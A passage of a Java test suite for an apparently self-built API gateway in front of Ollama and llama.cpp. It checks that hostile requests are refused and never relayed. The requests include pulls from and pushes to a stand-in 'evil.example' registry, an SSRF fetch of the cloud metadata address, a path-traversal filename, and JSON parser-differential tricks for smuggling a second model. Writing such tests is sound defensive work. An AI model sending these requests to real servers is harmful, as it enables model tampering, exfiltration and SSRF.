    // why: pull of a rogue model (CVE-2024-37032 family)
    t.add(c("scope: /api/pull", 403, post("/api/pull", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: deleting models (denial of service)
    t.add(
        c(
            "scope: DELETE /api/delete",
            403,
            json("DELETE", "/api/delete", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: creating models (parser CVEs, quantize CPU burn)
    t.add(
        c(
            "scope: /api/create",
            403,
            post("/api/create", K, "{\"model\":\"m\",\"from\":\"llama3.2:3b\"}")));
    // why: copying models
    t.add(
        c(
            "scope: /api/copy",
            403,
            post("/api/copy", K, "{\"source\":\"llama3.2:3b\",\"destination\":\"m\"}")));
    // why: arbitrary blob upload, first step of the GGUF exploits
    t.add(
        c(
            "scope: POST /api/blobs/sha256:...",
            403,
            "POST /api/blobs/"
                + DIGEST
                + " HTTP/1.1\r\n"
                + HOST
                + K
                + "Content-Type: application/octet-stream\r\nContent-Length: 4\r\n"
                + CLOSE
                + "GGUF"));
    // why: probing for uploaded blobs
    t.add(c("scope: HEAD /api/blobs/sha256:...", 403, req("HEAD", "/api/blobs/" + DIGEST, K)));
    // why: reading system prompts and templates
    t.add(c("scope: /api/show", 403, post("/api/show", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: signing the owner out of ollama.com
    t.add(c("scope: /api/signout", 403, post("/api/signout", K, "{}")));
    // why: revealing the owner's ollama.com account
    t.add(c("scope: /api/me", 403, post("/api/me", K, "{}")));
    // why: deleting the owner's account keys
    t.add(c("scope: DELETE /api/user/keys/x", 403, req("DELETE", "/api/user/keys/abc", K)));
    // why: cloud status of the owner's account
    t.add(c("scope: /api/status", 403, get("/api/status", K)));
    // why: web search on ollama.com under the owner's account
    t.add(
        c(
            "scope: /api/experimental/web_search",
            403,
            post("/api/experimental/web_search", K, "{\"query\":\"x\"}")));
    // why: server-side fetch on ollama.com (SSRF-ish, owner's quota)
    t.add(
        c(
            "scope: /api/experimental/web_fetch",
            403,
            post("/api/experimental/web_fetch", K, "{\"url\":\"http://169.254.169.254/\"}")));
    // why: llama.cpp /props can leak the system prompt
    t.add(c("scope: GET /props", 403, get("/props", K)));
    // why: llama.cpp POST /props changes the running server
    t.add(c("scope: POST /props", 403, post("/props", K, "{\"n_ctx\":1}")));
    // why: llama.cpp /slots can leak other users' prompts
    t.add(c("scope: GET /slots", 403, get("/slots", K)));
    // why: llama.cpp slot save writes files on the server
    t.add(
        c(
            "scope: POST /slots/0?action=save",
            403,
            post("/slots/0?action=save", K, "{\"filename\":\"../../x\"}")));
    // why: metrics reveal load and model names
    t.add(c("scope: GET /metrics", 403, get("/metrics", K)));
    // why: hot-swapping LoRA adapters
    t.add(c("scope: POST /lora-adapters", 403, post("/lora-adapters", K, "[]")));
    // why: an inference-only key listing the OpenAI model inventory
    t.add(c("scope (inference key): GET /v1/models", 403, get("/v1/models", INF)));
    // why: an inference-only key fetching one model under /v1
    t.add(
        c(
            "scope (inference key): GET /v1/models/llama3.2:3b",
            403,
            get("/v1/models/llama3.2:3b", INF)));
    // why: an inference-only key using OpenAI embeddings
    t.add(
        c(
            "scope (inference key): POST /v1/embeddings",
            403,
            post("/v1/embeddings", INF, "{\"model\":\"llama3.2:3b\",\"input\":\"a\"}")));
    // why: an inference-only key using rerank
    t.add(
        c(
            "scope (inference key): POST /v1/rerank",
            403,
            post(
                "/v1/rerank",
                INF,
                "{\"model\":\"llama3.2:3b\",\"query\":\"a\",\"documents\":[]}")));
    // why: a manage key without models.read listing models
    t.add(c("scope (manage key): GET /api/tags", 403, get("/api/tags", MG)));

    // ===== Registries: a models.manage key may not name a registry =====
    // why: CVE-2024-37032 check: pull from an attacker's registry
    t.add(
        c(
            "registry: pull model http://evil.example/ns/m",
            403,
            post("/api/pull", MG, "{\"model\":\"http://evil.example/ns/m\",\"insecure\":true}")));
    // why: registry with a port, no scheme
    t.add(
        c(
            "registry: pull name evil.example:5000/ns/m",
            403,
            post("/api/pull", MG, "{\"name\":\"evil.example:5000/ns/m\"}")));
    // why: Hugging Face as a registry
    t.add(c("registry: pull hf.co/x/y", 403, post("/api/pull", MG, "{\"model\":\"hf.co/x/y\"}")));
    // why: allowed model in model, registry hidden in the deprecated name field
    t.add(
        c(
            "registry: pull model ok, name evil",
            403,
            post("/api/pull", MG, "{\"model\":\"llama3.2:3b\",\"name\":\"evil.example/ns/m\"}")));
    // why: registry hidden behind a JSON unicode escape
    t.add(
        c(
            "registry: pull http\\u003a//evil",
            403,
            post("/api/pull", MG, "{\"model\":\"http\\u003a//evil.example/ns/m\"}")));
    // why: upper-case scheme and host
    t.add(
        c(
            "registry: pull HTTPS://EVIL.EXAMPLE/NS/M",
            403,
            post("/api/pull", MG, "{\"model\":\"HTTPS://EVIL.EXAMPLE/NS/M\"}")));
    // why: localhost registry (SSRF to local services)
    t.add(
        c(
            "registry: pull localhost:5000/ns/m",
            403,
            post("/api/pull", MG, "{\"model\":\"localhost:5000/ns/m\"}")));
    // why: model exfiltration by push to a registry
    t.add(
        c(
            "registry: push evil.example/ns/m",
            403,
            post("/api/push", MG, "{\"model\":\"evil.example/ns/m\",\"insecure\":true}")));
    // why: create from a remote registry pulls it
    t.add(
        c(
            "registry: create from http://evil.example/ns/m",
            403,
            post("/api/create", MG, "{\"model\":\"mine\",\"from\":\"http://evil.example/ns/m\"}")));
    // why: create named into a remote registry
    t.add(
        c(
            "registry: create model hf.co/x/y",
            403,
            post("/api/create", MG, "{\"model\":\"hf.co/x/y\",\"from\":\"llama3.2:3b\"}")));
    // why: inline Modelfile FROM a remote registry (older Ollama)
    t.add(
        c(
            "registry: create modelfile FROM http://",
            403,
            post(
                "/api/create",
                MG,
                "{\"model\":\"mine\",\"modelfile\":\"FROM http://evil.example/ns/m\\nSYSTEM hi\"}")));
    // why: lower-case from in an inline Modelfile
    t.add(
        c(
            "registry: create modelfile from hf.co",
            403,
            post(
                "/api/create",
                MG,
                "{\"name\":\"mine\",\"modelfile\":\"# x\\n  from hf.co/x/y\\n\"}")));
    // why: copy into a remote-looking destination
    t.add(
        c(
            "registry: copy destination evil.example/ns/m",
            403,
            post(
                "/api/copy",
                MG,
                "{\"source\":\"llama3.2:3b\",\"destination\":\"evil.example/ns/m\"}")));
    // why: copy from a remote source
    t.add(
        c(
            "registry: copy source hf.co/x/y",
            403,
            post("/api/copy", MG, "{\"source\":\"hf.co/x/y\",\"destination\":\"mine\"}")));
    // why: delete naming a registry
    t.add(
        c(
            "registry: delete evil.example/ns/m",
            403,
            json("DELETE", "/api/delete", MG, "{\"model\":\"evil.example/ns/m\"}")));
    // why: pulling a cloud model with a manage key
    t.add(
        c(
            "cloud: pull gpt-oss:120b-cloud",
            403,
            post("/api/pull", MG, "{\"model\":\"gpt-oss:120b-cloud\"}")));

    // ===== Cloud models: run on ollama.com under the owner's account =====
    // why: cloud model on Ollama chat
    t.add(
        c(
            "cloud: /api/chat gpt-oss:120b-cloud",
            403,
            post("/api/chat", K, chat("gpt-oss:120b-cloud"))));
    // why: bare :cloud tag
    t.add(c("cloud: /api/chat x:cloud", 403, post("/api/chat", K, chat("x:cloud"))));
    // why: cloud model on OpenAI chat
    t.add(
        c(
            "cloud: /v1/chat/completions gpt-oss:120b-cloud",
            403,
            post("/v1/chat/completions", K, chat("gpt-oss:120b-cloud"))));
    // why: bare :cloud tag under /v1
    t.add(
        c(
            "cloud: /v1/chat/completions x:cloud",
            403,
            post("/v1/chat/completions", K, chat("x:cloud"))));
    // why: case variation of the cloud tag
    t.add(
        c(
            "cloud: /api/generate GPT-OSS:120B-CLOUD",
            403,
            post("/api/generate", K, "{\"model\":\"GPT-OSS:120B-CLOUD\",\"prompt\":\"hi\"}")));
    // why: cloud tag hidden behind a JSON unicode escape
    t.add(
        c(
            "cloud: escaped \\u0063loud",
            403,
            post("/api/chat", K, chat("gpt-oss:120b-\\u0063loud"))));
    // why: namespaced cloud model
    t.add(
        c(
            "cloud: /v1/completions ns/x:cloud",
            403,
            post("/v1/completions", K, "{\"model\":\"ns/x:cloud\",\"prompt\":\"hi\"}")));
    // why: cloud model through the Responses API
    t.add(
        c(
            "cloud: /v1/responses",
            403,
            post("/v1/responses", K, "{\"model\":\"gpt-oss:120b-cloud\",\"input\":\"hi\"}")));
    // why: cloud model through the Anthropic-compatible API
    t.add(c("cloud: /v1/messages", 403, post("/v1/messages", K, chat("x:cloud"))));
    // why: cloud model through embeddings
    t.add(
        c(
            "cloud: /v1/embeddings",
            403,
            post("/v1/embeddings", K, "{\"model\":\"x:cloud\",\"input\":\"a\"}")));
    // why: cloud model through Ollama embeddings
    t.add(
        c(
            "cloud: /api/embed",
            403,
            post("/api/embed", K, "{\"model\":\"x:cloud\",\"input\":\"a\"}")));
    // why: cloud model named in the path
    t.add(
        c(
            "cloud: GET /v1/models/gpt-oss:120b-cloud",
            403,
            get("/v1/models/gpt-oss:120b-cloud", K)));
    // why: cloud model named in the path, colon percent-encoded
    t.add(
        c(
            "cloud: GET /v1/models/gpt-oss%3A120b-cloud",
            403, get("/v1/models/gpt-oss%3A120b-cloud", K)));

    // ===== A key limited to qwen* =====
    // why: a limited key asking for another model (Ollama)
    t.add(c("limited: /api/chat llama3.2:3b", 403, post("/api/chat", LIM, chat("llama3.2:3b"))));
    // why: a limited key asking for another model (OpenAI)
    t.add(
        c(
            "limited: /v1/chat/completions llama3.2:3b",
            403,
            post("/v1/chat/completions", LIM, chat("llama3.2:3b"))));
    // why: a limited key on Ollama generate
    t.add(
        c(
            "limited: /api/generate llama3.2:3b",
            403,
            post("/api/generate", LIM, "{\"model\":\"llama3.2:3b\",\"prompt\":\"hi\"}")));
    // why: a limited key on OpenAI embeddings
    t.add(
        c(
            "limited: /v1/embeddings llama3.2:3b",
            403,
            post("/v1/embeddings", LIM, "{\"model\":\"llama3.2:3b\",\"input\":\"a\"}")));
    // why: a limited key reading another model by path
    t.add(c("limited: GET /v1/models/llama3.2:3b", 403, get("/v1/models/llama3.2:3b", LIM)));
    // why: a glob-looking prefix that is not the allowed family
    t.add(c("limited: /api/chat xqwen2.5:7b", 403, post("/api/chat", LIM, chat("xqwen2.5:7b"))));
    // why: no model: the upstream would pick one (or a default)
    t.add(
        c(
            "limited: /api/chat without model",
            400,
            post("/api/chat", LIM, "{\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}")));
    // why: no model under /v1
    t.add(
        c(
            "limited: /v1/chat/completions without model",
            400,
            post("/v1/chat/completions", LIM, "{\"messages\":[]}")));
    // why: empty model string
    t.add(
        c(
            "limited: /api/generate model \"\"",
            400,
            post("/api/generate", LIM, "{\"model\":\"\",\"prompt\":\"hi\"}")));
    // why: null model
    t.add(
        c(
            "limited: /api/embed model null",
            400,
            post("/api/embed", LIM, "{\"model\":null,\"input\":\"a\"}")));
    // why: a limited key on multipart transcription naming another model
    t.add(c("limited: /v1/audio/transcriptions llama3.2:3b", 403, multipart("llama3.2:3b")));

    // ===== Parser differentials with the upstream's JSON and Modelfile readers =====
    // Ollama decodes JSON with Go's encoding/json, which matches keys case-insensitively and lets
    // the last of several matching keys win; its Modelfile parser separates FROM from its value
    // with a space or a tab.
    // why: "MODEL" is the model to Ollama: an allowed model checked, another one run
    t.add(
        c(
            "differential: limited key, model qwen + MODEL llama",
            400,
            post(
                "/api/chat",
                LIM,
                "{\"model\":\"qwen2.5:7b\",\"MODEL\":\"llama3.2:3b\",\"messages\":[]}")));
    // why: "Model" is the model to Ollama: a cloud model run although cloud models are refused
    t.add(
        c(
            "differential: ordinary key, Model x:cloud",
            403,
            post("/api/chat", K, "{\"Model\":\"gpt-oss:120b-cloud\",\"messages\":[]}")));
    // why: "Name" is the pull target to Ollama: CVE-2024-37032 past the registry policy
    t.add(
        c(
            "differential: manage key, pull Name http://evil",
            403,
            post("/api/pull", MG, "{\"Name\":\"http://evil.example/ns/m\",\"insecure\":true}")));
    // why: "From" is the base model to Ollama's create
    t.add(
        c(
            "differential: manage key, create From http://evil",
            403,
            post("/api/create", MG, "{\"model\":\"mine\",\"From\":\"http://evil.example/ns/m\"}")));
    // why: a tab after FROM in an inline Modelfile is a FROM line to Ollama's parser
    t.add(
        c(
            "differential: manage key, modelfile FROM<tab>http://evil",
            403,
            post(
                "/api/create",
                MG,
                "{\"model\":\"mine\",\"modelfile\":\"FROM\\thttp://evil.example/ns/m\"}")));

    // why: the OpenAI-compatible endpoints of Ollama decode with encoding/json as well
    t.add(
        c(
            "differential: limited key, /v1 model qwen + Model llama",
            400,
            post(
                "/v1/chat/completions",
                LIM,
                "{\"model\":\"qwen2.5:7b\",\"Model\":\"llama3.2:3b\",\"messages\":[]}")));
    // why: a lone upper-case MODEL under /v1 is the model to Ollama
    t.add(
        c(
            "differential: ordinary key, /v1 MODEL x:cloud",
            403,
            post("/v1/chat/completions", K, "{\"MODEL\":\"x:cloud\",\"messages\":[]}")));
    // why: Go folds U+017F (long s) to 's', so a key spelled with it is the copy source to Ollama
    t.add(
        c(
            "differential: manage key, copy \\u017fource hf.co",
            400,
            post(
                "/api/copy",
                MG,
                "{\"source\":\"llama3.2:3b\",\"\\u017fource\":\"hf.co/x/y\",\"destination\":\"mine\"}")));
    // why: a second JSON value after the object is not "a JSON object": Go's decoder reads the
    // first value, Python's json.loads refuses the whole body, so readers already disagree (the
    // leading newline only keeps the fake upstream from choking on it, should it get there)
    t.add(
        c(
            "differential: trailing second JSON object",
            400,
            post("/api/chat", LIM, "\n" + chat("qwen2.5:7b") + "\n" + chat("llama3.2:3b"))));

    return t.stream();
  }

  static String multipart(String model) {
    String b = "----gatehouse";
    String body =
        "--"
            + b
            + "\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\n"
            + model
            + "\r\n"
            + "--"
            + b
            + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.wav\"\r\nContent-Type: audio/wav\r\n\r\nRIFF\r\n"
            + "--"
            + b
            + "--\r\n";
    return "POST /v1/audio/transcriptions HTTP/1.1\r\n"
        + HOST
        + LIM
        + "Content-Type: multipart/form-data; boundary="
        + b
        + "\r\nContent-Length: "
        + body.length()
        + "\r\n"
        + CLOSE
        + body;
  }

  /**
   * Sends a request byte for byte. Vert.x answered some requests that Netty's decoder rejects with
   * an HTTP/1.0 status line, and an unsupported version with that version's own status line ({@code
   * HTTP/2.0 501}); the strict framing check answers them now, but the fixture's parser reads only
   * HTTP/1.1, so this still reads those, and a return of them fails an assertion rather than the
   * parse. Status -1 means the connection was closed without any response.
   */
  static RawResponse send(String request) throws Exception {
    RawResponse r = gw.raw(fill(request).getBytes(StandardCharsets.ISO_8859_1));
    String text = r.head();
    if (r.status() == -1 && text.matches("(?s)HTTP/\\d\\.\\d \\d{3}.*")) {
      int split = text.indexOf("\r\n\r\n");
      return new RawResponse(
          Integer.parseInt(text.substring(9, 12)),
          split < 0 ? text : text.substring(0, split),
          split < 0 ? "" : text.substring(split + 4));
    }
    return r;
  }

  static String fill(String request) {
    String r = request;
    for (Map.Entry<String, String> e : KEYS.entrySet()) {
      r = r.replace(e.getKey(), e.getValue());
    }
    return r;
  }

  @ParameterizedTest(name = "[{index}] {0} -> {1}")
  @MethodSource("hostile")
  void hostileRequestIsRefusedAndNeverRelayed(String name, int status, String request)
      throws Exception {
    RawResponse r = send(request);
    System.out.printf(
        "%-70s %s | %s%n",
        name,
        r.head().lines().findFirst().orElse("(nothing)"),
        r.head().toLowerCase(java.util.Locale.ROOT).contains("x-request-id")
            ? "gateway"
            : "vert.x/netty");
    assertThat(r.status())
        .as("status of %s; response:%n%s%n%n%s", name, r.head(), r.body())
        .isEqualTo(status);
    assertThat(gw.upstream.requests())
        .as("requests relayed to the upstream for %s", name)
        .isEmpty();
    assertThat(r.head()).as("response head of %s", name).doesNotContainPattern("(?im)^server:");
    if (r.status() > 0) {
      // answered by the gateway, in its own format: never by Vert.x or Netty in theirs
      assertThat(r.head())
          .as("response head of %s", name)
          .startsWith("HTTP/1.1 ")
          .containsPattern("(?im)^x-request-id: [0-9a-f]{16}$");
    }
  }

  @Test
  void tableIsLargeAndCoversBothNamespaces() {
    List<Arguments> all = hostile().toList();
    assertThat(all).hasSizeGreaterThanOrEqualTo(70);
    long v1 =
        all.stream().filter(a -> ((String) a.get()[2]).matches("(?s)[A-Za-z]+ /v1/.*")).count();
    long api =
        all.stream().filter(a -> ((String) a.get()[2]).matches("(?s)[A-Za-z]+ /api/.*")).count();
    assertThat(v1).isGreaterThanOrEqualTo(25);
    assertThat(api).isGreaterThanOrEqualTo(25);
  }

  /**
   * Requests that Vert.x and Netty used to answer on their own, before the gateway saw them, with
   * no request id and with quirks of their own (an HTTP/1.0 status line, a version echoed back):
   * the strict framing check answers them now, in Gatehouse's format.
   */
  @Test
  void malformedRequestsAreAnsweredByTheGatewayNotByVertx() throws Exception {
    Map<String, String> expected = new LinkedHashMap<>();
    expected.put(
        get("/api/tags", K + "X-Big: " + "a".repeat(17 * 1024) + "\r\n"),
        "HTTP/1.1 431 Request Header Fields Too Large");
    expected.put(get("/api/tags?" + "a".repeat(9000), K), "HTTP/1.1 414 URI Too Long");
    expected.put(
        get("/api/tags", K).replace("HTTP/1.1", "HTTP/1.2"),
        "HTTP/1.1 505 HTTP Version Not Supported");
    expected.put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "HTTP/1.1 505 HTTP Version Not Supported");
    expected.put("GET /api/push\r\n\r\n", "HTTP/1.1 400 Bad Request");
    expected.put(json("PO(ST", "/api/push", K, "{}"), "HTTP/1.1 400 Bad Request");
    for (Map.Entry<String, String> e : expected.entrySet()) {
      gw.upstream.reset();
      RawResponse r = send(e.getKey());
      assertThat(r.head().lines().findFirst().orElse("")).isEqualTo(e.getValue());
      assertThat(r.head()).containsPattern("(?im)^x-request-id: [0-9a-f]{16}$");
      assertThat(r.body()).contains("\"code\":\"request.").doesNotContain("\"error\":null");
      assertThat(gw.upstream.requests()).isEmpty();
    }
  }

  /**
   * Gatehouse's own answers (refusals, health, the framing check's) name their length {@code
   * Content-Length}, as Go's server and nginx do: Vert.x adds {@code content-length} in lower case
   * beside the canonical names, and nmap's fingerprint of a keyless {@code GET} showed it, a tell
   * of the foundation to a scanner that reads bytes.
   */
  @Test
  void gatehousesOwnAnswersNameTheirLengthInTheUsualCase() throws Exception {
    for (String request :
        List.of(
            "GET / HTTP/1.0\r\n\r\n", // nmap's GetRequest: 401
            "OPTIONS / HTTP/1.0\r\n\r\n", // nmap's HTTPOptions: 401
            get("/nope", K), // 404 with a key
            "GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
            "HEAD /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
            "GET / HTTP/1.1\nHost: a\n\n")) { // the framing check's 400
      RawResponse r = send(request);
      assertThat(r.head()).as(request).contains("\r\nContent-Length: ");
      assertThat(r.head()).as(request).doesNotContain("\r\ncontent-length: ");
    }
    assertThat(gw.upstream.requests()).isEmpty();
  }

  /** A header just within limits.max_header_bytes (16 KiB here) is still served. */
  @Test
  void aHeadAtTheFieldLimitIsServed() throws Exception {
    // the field lines' bytes without their CRLFs, as the decoder counts them: the limit exactly
    int used = fill(get("/api/tags", K)).lines().skip(1).mapToInt(String::length).sum();
    int pad = 16 * 1024 - used - "X-Pad: ".length();
    assertRelayed(get("/api/tags", K + "X-Pad: " + "a".repeat(pad) + "\r\n"), 200);
    gw.upstream.reset();
    RawResponse over = send(get("/api/tags", K + "X-Pad: " + "a".repeat(pad + 1) + "\r\n"));
    assertThat(over.status()).as(over.head()).isEqualTo(431);
    // the framing check's answer, counting as the decoder does: not the decoder's own 431
    assertThat(over.head()).containsPattern("(?im)^x-request-id: [0-9a-f]{16}$");
    assertThat(gw.upstream.requests()).isEmpty();
  }

  /** The same keys do work: the refusals above are about the requests, not broken keys. */
  @Test
  void theKeysUsedAboveAreGoodForOrdinaryRequests() throws Exception {
    assertRelayed(get("/api/tags", K), 200);
    assertRelayed(post("/api/pull", MG, "{\"model\":\"llama3.2:3b\"}"), 200);
    assertRelayed(post("/api/chat", LIM, chat("qwen2.5:7b")), 200);
    assertRelayed(post("/v1/chat/completions", INF, chat("llama3.2:3b")), 200);
    assertRelayed(post("/v1/chat/completions", K, chat("llama3.2:3b")), 200);
    assertRelayed(get("/api/tags", "x-api-key: {KEY}\r\n"), 200);
    assertRelayed(get("/api/tags", K + manyHeaders(60, true)), 200);
  }

  private static void assertRelayed(String request, int status) throws Exception {
    gw.upstream.reset();
    RawResponse r = send(request);
    assertThat(r.status()).as("%s%n%s", r.head(), r.body()).isEqualTo(status);
    assertThat(gw.upstream.requests()).hasSize(1);
    assertThat(r.head()).doesNotContainPattern("(?im)^server:");
  }

  /**
   * An unauthenticated client gets one answer everywhere: the same 401, byte for byte apart from
   * the request id, whether the path exists, is privileged, or does not exist at all.
   */
  @Test
  void unauthenticatedAnswerIsTheSameOnEveryPath() throws Exception {
    String wrongKey = bearer("gk_aaaaaaaaaaaa_" + "A".repeat(40));
    List<String> ollama =
        List.of(
            get("/api/tags", NO_KEY),
            get("/api/unknown", NO_KEY),
            get("/api/push", NO_KEY),
            get("/.env", NO_KEY),
            get("/", NO_KEY),
            get("/api/tags", wrongKey),
            get("/api/nope", wrongKey),
            get("/api/tags", "x-api-key: password\r\n"),
            get("/api/tags", bearer("{WRONG_SECRET}")));
    List<String> openai =
        List.of(
            get("/v1/models", NO_KEY),
            get("/v1/nonexistent", NO_KEY),
            get("/v1/models/llama3.2:3b", NO_KEY),
            get("/v1/models", wrongKey),
            get("/v1/nonexistent", wrongKey),
            get("/v1/models", "x-api-key: password\r\n"));
    for (List<String> group : List.of(ollama, openai)) {
      String first = null;
      for (String request : group) {
        gw.upstream.reset();
        RawResponse r = send(request);
        assertThat(r.status()).isEqualTo(401);
        assertThat(r.head()).doesNotContainPattern("(?im)^server:");
        assertThat(r.head()).containsPattern("(?im)^www-authenticate: Bearer realm=\"gatehouse\"");
        assertThat(gw.upstream.requests()).isEmpty();
        String normalised = normalise(r);
        if (first == null) {
          first = normalised;
        } else {
          assertThat(normalised)
              .as("401 for %s", request.lines().findFirst().orElseThrow())
              .isEqualTo(first);
        }
      }
    }
  }

  /** The response with its request id masked, in the head and in the body. */
  private static String normalise(RawResponse r) {
    String head = r.head().replaceAll("(?im)^(x-request-id: )\\S+", "$1*");
    String body = r.body().replaceAll("\"request_id\":\"[^\"]*\"", "\"request_id\":\"*\"");
    return head + "\r\n\r\n" + body;
  }
}
